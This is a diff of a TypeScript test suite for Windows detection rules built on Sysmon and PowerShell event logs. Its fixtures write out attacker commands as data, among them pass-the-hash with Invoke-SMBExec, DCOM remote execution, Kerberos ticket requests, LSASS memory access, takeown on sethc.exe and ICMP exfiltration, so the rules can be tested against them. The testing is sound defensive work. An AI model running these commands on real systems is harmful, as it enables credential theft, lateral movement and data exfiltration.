     expect(titlesOf(wmi(15, '%systemroot%\\system32\\wbem\\wmiprov.dll'))).not.toContain(PROV);
@@ -1002,12 +995,12 @@ describe('built-in Windows rules', () => {
   it('Winsock catalog, DNS tunnels, Office templates and Outlook home pages in Sysmon; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const WS = 'Winsock Catalog Changed (Sysmon 12/13)';
-    const cat = (t: number, image: string): ReturnType<typeof makeEvent> =>
+    const cat = (t: number, image: string): Ev =>
       win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000001\\PackedCatalogItem', Details: 'Binary Data' });
     expect(hits([cat(1, `${S32}rundll32.exe`)]).get(WS)?.tactics).toEqual(['persistence', 'privilege-escalation']);
     expect(titlesOf(cat(2, 'C:\\Users\\bob\\lsp.exe'))).toContain(WS);
     expect(titlesOf(cat(3, `${S32}svchost.exe`))).not.toContain(WS);
-    const dns = (t: number, image: string, name: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryStatus: '0', QueryResults: '-' });
+    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryStatus: '0', QueryResults: '-' });
     const LONG = 'DNS Query With A Long Encoded Label (Sysmon 22)';
     const BURST = 'Many Long Encoded DNS Names Looked Up By One Process';
     const tunnel = Array.from({ length: 12 }, (_, i) => dns(10 + i, 'C:\\Users\\bob\\Desktop\\dnscat.exe', `${'a1b2c3d4e5f6'.repeat(3)}${i.toString(16).padStart(4, '0')}.tunnel.example.net`));
@@ -1018,18 +1011,18 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(dns(31, `${S32}svchost.exe`, '1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.ip6.arpa'))).not.toContain(LONG);
     expect(hits(Array.from({ length: 4 }, (_, i) => dns(40 + i, 'C:\\Tools\\t.exe', `${'ab'.repeat(20)}${i}.example.org`))).has(BURST)).toBe(false);
     const D53 = 'DNS Port Contacted Directly By An Unusual Program (Sysmon 3)';
-    const net = (t: number, image: string, ip: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: ip, DestinationPort: '53' });
+    const net = (t: number, image: string, ip: string): Ev => win(t, ...SYSMON, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: ip, DestinationPort: '53' });
     expect(hits([net(50, 'C:\\Users\\bob\\Desktop\\dnscat.exe', '203.0.113.7')]).get(D53)).toEqual({ level: 'low', tactics: ['command-and-control'] });
     expect(titlesOf(net(51, `${S32}svchost.exe`, '10.0.0.2'))).not.toContain(D53);
     const AUTORUN = 'Autorun.inf Written To A Drive Root (Sysmon 11)';
     expect(hits([win(55, ...SYSMON, 11, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\w.exe', TargetFilename: 'E:\\autorun.inf' })]).get(AUTORUN)).toEqual({ level: 'medium', tactics: ['initial-access', 'lateral-movement'] });
     expect(titlesOf(win(56, ...SYSMON, 11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\bob\\Downloads\\iso\\autorun.inf' }))).not.toContain(AUTORUN);
     const TPL = 'Office Global Template Written By Another Program (Sysmon 11)';
-    const file = (t: number, image: string, target: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
+    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
     expect(hits([file(60, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm')]).get(TPL)).toEqual({ level: 'medium', tactics: ['persistence'] });
     expect(titlesOf(file(61, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'))).not.toContain(TPL);
     const HOME = 'Outlook Folder Home Page Set (Sysmon 12/13)';
-    const reg = (t: number, target: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: 'http://203.0.113.9/home.html' });
+    const reg = (t: number, target: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: 'http://203.0.113.9/home.html' });
     expect(hits([reg(70, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\URL')]).get(HOME)).toEqual({ level: 'high', tactics: ['persistence'] });
     expect(titlesOf(reg(71, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\Security'))).not.toContain(HOME);
   });
@@ -1038,7 +1031,7 @@ describe('built-in Windows rules', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
     const TS = 'File Creation Time Changed By A Shell Or Script Host (Sysmon 2)';
-    const ftime = (t: number, image: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 2, { Image: image, TargetFilename: 'C:\\Users\\Public\\svchost.exe', CreationUtcTime: '2015-07-10 11:00:00.000', PreviousCreationUtcTime: '2026-11-30 10:00:00.000' });
+    const ftime = (t: number, image: string): Ev => win(t, ...SYSMON, 2, { Image: image, TargetFilename: 'C:\\Users\\Public\\svchost.exe', CreationUtcTime: '2015-07-10 11:00:00.000', PreviousCreationUtcTime: '2026-11-30 10:00:00.000' });
     expect(hits([ftime(1, PS)]).get(TS)).toEqual({ level: 'medium', tactics: ['stealth'] });
     expect(titlesOf(ftime(2, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'))).not.toContain(TS);
     // Jump lists and editor autosaves: PowerShell rewrites their times, no program or script.
@@ -1046,7 +1039,7 @@ describe('built-in Windows rules', () => {
     const OWN = 'Ownership Or Full Control Of An Accessibility Program Taken';
     expect(hits([proc(3, `${S32}takeown.exe`, 'takeown /f C:\\Windows\\System32\\sethc.exe')]).get(OWN)).toEqual({ level: 'high', tactics: ['persistence', 'privilege-escalation'] });
     expect(titlesOf(proc(4, `${S32}icacls.exe`, 'icacls C:\\Data /grant bob:F'))).not.toContain(OWN);
-    const sb = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
+    const sb = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
     const ASM = '.NET Assembly Loaded From Bytes In A Script Block (4104)';
     expect(hits([sb(5, '$a = [System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))')]).get(ASM)).toEqual({ level: 'medium', tactics: ['execution', 'stealth'] });
     expect(titlesOf(sb(6, '[System.Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms")'))).not.toContain(ASM);
@@ -1066,7 +1059,7 @@ describe('built-in Windows rules', () => {
     expect(hits([proc(15, `${S32}nslookup.exe`, 'nslookup -q=txt stage.example.net')]).get(TXT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
     expect(titlesOf(proc(16, `${S32}nslookup.exe`, 'nslookup www.example.com'))).not.toContain(TXT);
     const SVC = 'Service Program Started From A User-Writable Folder';
-    const svc = (t: number, image: string): ReturnType<typeof makeEvent> => sysmon1(t, image, image, { ParentImage: `${S32}services.exe`, User: 'NT AUTHORITY\\SYSTEM' });
+    const svc = (t: number, image: string): Ev => sysmon1(t, image, image, { ParentImage: `${S32}services.exe`, User: 'NT AUTHORITY\\SYSTEM' });
     expect(hits([svc(17, 'C:\\Users\\Public\\updater.exe')]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation'] });
     expect(titlesOf(svc(18, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe'))).not.toContain(SVC);
     expect(titlesOf(svc(19, `${S32}svchost.exe`))).not.toContain(SVC);
@@ -1074,7 +1067,7 @@ describe('built-in Windows rules', () => {
 
   it('dual-use Windows tools started where no command line is logged (4688 with command-line auditing off); with a command line they are left to the argument rules', () => {
     const S32 = 'C:\\Windows\\System32\\';
-    const bare = (t: number, image: string): ReturnType<typeof makeEvent> => sec(t, 4688, { SubjectUserName: 'bob', NewProcessName: image, ParentProcessName: `${S32}cmd.exe`, TokenElevationType: '%%1936' });
+    const bare = (t: number, image: string): Ev => sec(t, 4688, { SubjectUserName: 'bob', NewProcessName: image, ParentProcessName: `${S32}cmd.exe`, TokenElevationType: '%%1936' });
     const REC = 'Shadow Copy Or Backup Tool Started Without A Logged Command Line';
     expect(hits([bare(1, `${S32}vssadmin.exe`)]).get(REC)).toEqual({ level: 'informational', tactics: ['credential-access', 'impact'] });
     expect(titlesOf(proc(2, `${S32}vssadmin.exe`, ''))).toContain(REC);
@@ -1097,7 +1090,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('script blocks: pass-the-hash execution functions, TCP reverse shells and port sweeps, Compress-Archive, UAC bypass handlers; near misses are not', () => {
-    const sb = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
+    const sb = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
     const PTH = 'Pass-The-Hash Remote Execution Functions In A Script Block (4104)';
     expect(hits([sb(1, 'Invoke-SMBExec -Target 10.0.0.5 -Username admin -Hash 31d6cfe0d16ae931b73c59d7e0c089c0 -Command "cmd"')]).get(PTH)).toEqual({ level: 'high', tactics: ['stealth', 'lateral-movement'] });
     expect(titlesOf(sb(2, 'Invoke-Command -ComputerName SRV02 -ScriptBlock { hostname }'))).not.toContain(PTH);
@@ -1116,7 +1109,7 @@ describe('built-in Windows rules', () => {
   it('image loads of dump and vault libraries by scripts and user-folder programs, the .NET runtime in native processes, inbound RDP; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
-    const load = (t: number, image: string, dll: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 7, { Image: image, ImageLoaded: dll, Signed: 'true' });
+    const load = (t: number, image: string, dll: string): Ev => win(t, ...SYSMON, 7, { Image: image, ImageLoaded: dll, Signed: 'true' });
     const DUMP = 'Memory Dump Library Loaded By A Script Host Or A Program In A User Folder (Sysmon 7)';
     expect(hits([load(1, PS, `${S32}dbgcore.dll`)]).get(DUMP)).toEqual({ level: 'medium', tactics: ['credential-access'] });
     expect(titlesOf(load(2, 'C:\\Users\\bob\\Downloads\\d.exe', `${S32}dbghelp.dll`))).toContain(DUMP);
@@ -1128,17 +1121,17 @@ describe('built-in Windows rules', () => {
     expect(hits([load(6, `${S32}notepad.exe`, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll')]).get(CLR)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
     expect(titlesOf(load(7, PS, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll'))).not.toContain(CLR);
     const RDP = 'Inbound Remote Desktop Connection (Sysmon 3)';
-    const net = (t: number, src: string, initiated: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: initiated, SourceIp: src, DestinationIp: '10.0.0.5', DestinationPort: '3389', Protocol: 'tcp' });
+    const net = (t: number, src: string, initiated: string): Ev => win(t, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: initiated, SourceIp: src, DestinationIp: '10.0.0.5', DestinationPort: '3389', Protocol: 'tcp' });
     expect(hits([net(8, '10.0.0.9', 'false')]).get(RDP)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
     expect(titlesOf(net(9, '10.0.0.9', 'true'))).not.toContain(RDP);
   });
 
   /** The one hit of a rule title on an event (level and tactics), or undefined. */
-  const hitOf = (title: string, e: ReturnType<typeof makeEvent>): { level: string; tactics: readonly string[] } | undefined => hits([e]).get(title);
+  const hitOf = (title: string, e: Ev): { level: string; tactics: readonly string[] } | undefined => hits([e]).get(title);
   const S32 = 'C:\\Windows\\System32\\';
   const PSH = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
-  const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
-  const expectHit = (title: string, e: ReturnType<typeof makeEvent>, level: string, tactic: string): void => {
+  const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
+  const expectHit = (title: string, e: Ev, level: string, tactic: string): void => {
     const h = hitOf(title, e);
     expect(h?.level, title).toBe(level);
     expect(h?.tactics, title).toContain(tactic);
@@ -1200,12 +1193,12 @@ describe('built-in Windows rules', () => {
     expectHit(PSX, sysmon1(9, 'C:\\Tools\\PsExec64.exe', 'PsExec64.exe -accepteula -s -i cmd.exe'), 'medium', 'privilege-escalation');
     expect(titlesOf(sysmon1(10, 'C:\\Tools\\PsExec64.exe', 'PsExec64.exe \\\\SRV02 -u admin cmd.exe'))).not.toContain(PSX);
     const SVC = 'Service Registered With Its Program In A User-Writable Folder (Sysmon 13)';
-    const reg = (t: number, image: string, key: string, details: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
+    const reg = (t: number, image: string, key: string, details: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
     expectHit(SVC, reg(11, `${S32}services.exe`, 'HKLM\\System\\CurrentControlSet\\Services\\upd\\ImagePath', 'C:\\Users\\Public\\svc.exe'), 'medium', 'privilege-escalation');
     expect(titlesOf(reg(12, `${S32}services.exe`, 'HKLM\\System\\CurrentControlSet\\Services\\upd\\ImagePath', 'C:\\Program Files\\Vendor\\svc.exe'))).not.toContain(SVC);
     const LSA = 'LSASS Memory Read By A Script Host Or Windows Proxy Program (Sysmon 10)';
     const NET_FRAMES = 'C:\\Windows\\SYSTEM32\\ntdll.dll+a5ec4|C:\\Windows\\System32\\KERNELBASE.dll+221bd|C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System\\a.ni.dll+8e3f1';
-    const open = (t: number, src: string, access: string, trace = NET_FRAMES): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: access, CallTrace: trace });
+    const open = (t: number, src: string, access: string, trace = NET_FRAMES): Ev => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: access, CallTrace: trace });
     expectHit(LSA, open(13, `${S32}rundll32.exe`, '0x1410', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+6dd8|C:\\Windows\\System32\\comsvcs.dll+2b3c'), 'high', 'credential-access');
     expectHit(LSA, open(14, PSH, '0x1010', `${NET_FRAMES}|C:\\Windows\\System32\\dbghelp.dll+1f0a2`), 'high', 'credential-access');
     expectHit(LSA, open(20, PSH, '0x1010'), 'high', 'credential-access');
@@ -1213,7 +1206,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(open(16, `${S32}rundll32.exe`, '0x1000'))).not.toContain(LSA);
     expect(titlesOf(open(17, `${S32}svchost.exe`, '0x1010'))).not.toContain(LSA);
     const DMP = 'Memory Dump File Written By A Script Host, Proxy Program Or User-Folder Program (Sysmon 11)';
-    const file = (t: number, image: string, target: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
+    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
     expectHit(DMP, file(18, `${S32}rundll32.exe`, 'C:\\Windows\\Temp\\debug.dmp'), 'medium', 'credential-access');
     expect(titlesOf(file(19, `${S32}WerFault.exe`, 'C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\app.dmp'))).not.toContain(DMP);
   });
@@ -1251,17 +1244,17 @@ describe('built-in Windows rules', () => {
     expectHit(ICMP, block(20, '$p = New-Object System.Net.NetworkInformation.Ping; $p.Send("203.0.113.5", 1500, [Text.Encoding]::ASCII.GetBytes($d))'), 'medium', 'exfiltration');
     expect(titlesOf(block(21, 'Test-Connection -ComputerName SRV02 -Count 1'))).not.toContain(ICMP);
     const PASTE = 'Paste Or File-Sharing Service Resolved By A Script Host Or Windows Tool (Sysmon 22)';
-    const dns = (t: number, image: string, name: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '203.0.113.7' });
+    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '203.0.113.7' });
     expectHit(PASTE, dns(22, PSH, 'pastebin.com'), 'medium', 'exfiltration');
     expect(titlesOf(dns(23, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'pastebin.com'))).not.toContain(PASTE);
     const FTP = 'Script Host Or Proxy Program Connecting To An FTP Or Mail Port (Sysmon 3)';
-    const net = (t: number, image: string, port: string, ip = '203.0.113.5'): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
+    const net = (t: number, image: string, port: string, ip = '203.0.113.5'): Ev => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
     expectHit(FTP, net(24, PSH, '21'), 'low', 'exfiltration');
     expect(titlesOf(net(25, PSH, '443'))).not.toContain(FTP);
   });
 
   it('lateral movement and initial access: admin ports from scripts, outbound RDP, SSH clients, files into remote sessions, Office and browser children, attachment caches, archives and downloads, the mark of the web; near misses are not', () => {
-    const net = (t: number, image: string, port: string, ip = '10.0.0.5'): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
+    const net = (t: number, image: string, port: string, ip = '10.0.0.5'): Ev => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
     const ADM = 'Script Host Or Windows Tool Connecting To A Remote Administration Port (Sysmon 3)';
     expectHit(ADM, net(1, PSH, '5985'), 'low', 'lateral-movement');
     expect(titlesOf(net(2, PSH, '5985', '127.0.0.1'))).not.toContain(ADM);
@@ -1281,7 +1274,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon1(11, PSH, 'powershell -c calc', { ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', ParentCommandLine: 'EXCEL.EXE /automation -Embedding' }))).not.toContain(OFF);
     expect(titlesOf(sysmon1(12, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\MSOSYNC.EXE', 'msosync.exe', { ParentImage: WORD }))).not.toContain(OFF);
     const OFW = 'Office Application Writes A Program Or Script (Sysmon 11)';
-    const file = (t: number, image: string, target: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
+    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
     expectHit(OFW, file(13, WORD, 'C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe'), 'medium', 'initial-access');
     expect(titlesOf(file(14, WORD, 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\report.docx.lnk'))).not.toContain(OFW);
     const ATT = 'Executable Or Script Saved In The Outlook Attachment Cache (Sysmon 11)';
@@ -1294,7 +1287,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon1(25, 'C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_ProcessMonitor.zip\\Procmon.exe', 'Procmon.exe', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(RUN);
     expect(titlesOf(sysmon1(19, `${S32}wscript.exe`, 'wscript.exe C:\\Scripts\\logon.vbs', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(RUN);
     const MOTW = 'Program Or Script Downloaded From The Internet (Mark Of The Web, Sysmon 15)';
-    const stream = (t: number, target: string, zone: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 15, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', TargetFilename: target, Contents: `[ZoneTransfer]  ZoneId=${zone}` });
+    const stream = (t: number, target: string, zone: string): Ev => win(t, ...SYSMON, 15, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', TargetFilename: target, Contents: `[ZoneTransfer]  ZoneId=${zone}` });
     expectHit(MOTW, stream(20, 'C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier', '3'), 'informational', 'initial-access');
     expect(titlesOf(stream(21, 'C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier', '1'))).not.toContain(MOTW);
     expect(titlesOf(stream(22, 'C:\\Users\\bob\\Downloads\\report.pdf:Zone.Identifier', '3'))).not.toContain(MOTW);
@@ -1305,7 +1298,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('script-block behaviours read from command lines too (DCOM objects, Kerberos tickets, screenshots, mail and web uploads, paste sites, pings, Outlook, remote sessions, archives, discovery cmdlets, pass-the-hash), admin shares and WinRM from PowerShell, RDP ports, browser stores, certificate keys, IIS and vault credentials; near misses are not', () => {
-    const ps = (t: number, cmd: string): ReturnType<typeof makeEvent> => proc(t, PSH, cmd);
+    const ps = (t: number, cmd: string): Ev => proc(t, PSH, cmd);
     expectHit('Remote-Capable DCOM Object Instantiated From A Command Line', ps(1, 'powershell -c "$c=[activator]::CreateInstance([type]::GetTypeFromProgID(\'MMC20.Application\',\'10.0.0.5\'));$c.Document.ActiveView.ExecuteShellCommand(\'cmd\',$null,\'/c calc\',\'7\')"'), 'high', 'lateral-movement');
     expect(titlesOf(ps(2, 'powershell -c "[type]::GetTypeFromProgID(\'Scripting.FileSystemObject\')"'))).not.toContain('Remote-Capable DCOM Object Instantiated From A Command Line');
     expectHit('Kerberos Service Tickets Requested From A Command Line', ps(3, 'powershell -c "Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList \'HTTP/web01\'"'), 'medium', 'credential-access');
@@ -1338,7 +1331,7 @@ describe('built-in Windows rules', () => {
     expectHit('WinRM Remoting Enabled Or Trusted Hosts Widened In A Script Block (4104)', block(24, 'Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value * -Force'), 'low', 'lateral-movement');
     expect(titlesOf(ps(25, 'powershell -c "Get-Item WSMan:\\localhost\\Listener"'))).not.toContain(WRM);
     const RDPP = 'Remote Desktop Listening Port Changed (Sysmon 13)';
-    const reg = (t: number, key: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: PSH, TargetObject: key, Details: 'DWORD (0x0000d431)' });
+    const reg = (t: number, key: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: PSH, TargetObject: key, Details: 'DWORD (0x0000d431)' });
     expectHit(RDPP, reg(26, 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber'), 'medium', 'lateral-movement');
     expect(titlesOf(reg(27, 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\MaxIdleTime'))).not.toContain(RDPP);
     expectHit('Remote Desktop Listening Port Changed From A Command Line', ps(28, 'powershell -c "Set-ItemProperty -Path \'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\' -Name PortNumber -Value 4489"'), 'medium', 'lateral-movement');
@@ -1359,7 +1352,7 @@ describe('built-in Windows rules', () => {
 
   it('remote service, task and event-log pipes, default accounts activated, deny entries, restarts by commands, hidden-file settings, network providers, shells started by the service manager; near misses are not', () => {
     const PIPE = 'Service Control, Task Scheduler Or Event Log Pipe Connected From The Network (Sysmon 18)';
-    const pipe = (t: number, name: string, image = 'System'): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 18, { EventType: 'ConnectPipe', PipeName: name, Image: image });
+    const pipe = (t: number, name: string, image = 'System'): Ev => win(t, ...SYSMON, 18, { EventType: 'ConnectPipe', PipeName: name, Image: image });
     expectHit(PIPE, pipe(1, '\\svcctl'), 'low', 'lateral-movement');
     expect(titlesOf(pipe(2, '\\svcctl', `${S32}svchost.exe`))).not.toContain(PIPE);
     expect(titlesOf(pipe(3, '\\srvsvc'))).not.toContain(PIPE);
@@ -1370,11 +1363,11 @@ describe('built-in Windows rules', () => {
     expectHit(DENY, proc(6, `${S32}icacls.exe`, 'icacls C:\\Users\\Public\\x.exe /deny Everyone:F'), 'low', 'defense-impairment');
     expect(titlesOf(proc(7, `${S32}icacls.exe`, 'icacls C:\\Data /grant Users:R'))).not.toContain(DENY);
     const SHUT = 'Restart Or Shutdown Started By A Command-Line Tool (User32 1074)';
-    const r1074 = (t: number, p1: string): ReturnType<typeof makeEvent> => win(t, 'System', 'User32', 1074, { param1: p1, param2: 'WS01', param5: 'restart', param7: 'CORP\\bob' });
+    const r1074 = (t: number, p1: string): Ev => win(t, 'System', 'User32', 1074, { param1: p1, param2: 'WS01', param5: 'restart', param7: 'CORP\\bob' });
     expectHit(SHUT, r1074(8, 'C:\\Windows\\system32\\shutdown.exe (WS01)'), 'informational', 'impact');
     expect(titlesOf(r1074(9, 'C:\\Windows\\system32\\winlogon.exe (WS01)'))).not.toContain(SHUT);
     const HID = 'Explorer Set To Hide Hidden Files, Protected Files Or Extensions (Sysmon 13)';
-    const reg = (t: number, image: string, key: string, details: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
+    const reg = (t: number, image: string, key: string, details: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
     expectHit(HID, reg(10, `${S32}reg.exe`, 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000002)'), 'low', 'stealth');
     expect(titlesOf(reg(11, 'C:\\Windows\\explorer.exe', 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000002)'))).not.toContain(HID);
     expect(titlesOf(reg(12, `${S32}reg.exe`, 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000001)'))).not.toContain(HID);
@@ -1392,7 +1385,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'x.exe', { IntegrityLevel: 'Medium' }))).not.toContain(USR);
     expect(titlesOf(sysmon1(3, 'C:\\Program Files\\Vendor\\agent.exe', 'agent.exe', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' }))).not.toContain(USR);
     const TOK = 'SYSTEM Token Assigned To A Process By A Non-System Program (4696)';
-    const t4696 = (t: number, subject: string, process: string): ReturnType<typeof makeEvent> => sec(t, 4696, { SubjectUserSid: subject, SubjectUserName: 'bob', ProcessName: process, TargetProcessName: `${S32}cmd.exe`, TargetUserSid: 'S-1-5-18', TargetUserName: 'SYSTEM' });
+    const t4696 = (t: number, subject: string, process: string): Ev => sec(t, 4696, { SubjectUserSid: subject, SubjectUserName: 'bob', ProcessName: process, TargetProcessName: `${S32}cmd.exe`, TargetUserSid: 'S-1-5-18', TargetUserName: 'SYSTEM' });
     expectHit(TOK, t4696(4, 'S-1-5-21-1-2-3-1104', 'C:\\Users\\bob\\Desktop\\tok.exe'), 'medium', 'privilege-escalation');
     expect(titlesOf(t4696(5, 'S-1-5-18', 'C:\\Users\\bob\\Desktop\\tok.exe'))).not.toContain(TOK);
     expect(titlesOf(t4696(6, 'S-1-5-21-1-2-3-1104', `${S32}svchost.exe`))).not.toContain(TOK);
@@ -1406,15 +1399,15 @@ describe('built-in Windows rules', () => {
 
   it('LSASS read through a user-folder library, Tor ports, dynamic DNS names, BloodHound collection arguments; near misses are not', () => {
     const MOD = 'LSASS Read Through A Module In A User-Writable Folder (Sysmon 10)';
-    const open = (t: number, src: string, trace: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1010', CallTrace: trace });
+    const open = (t: number, src: string, trace: string): Ev => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1010', CallTrace: trace });
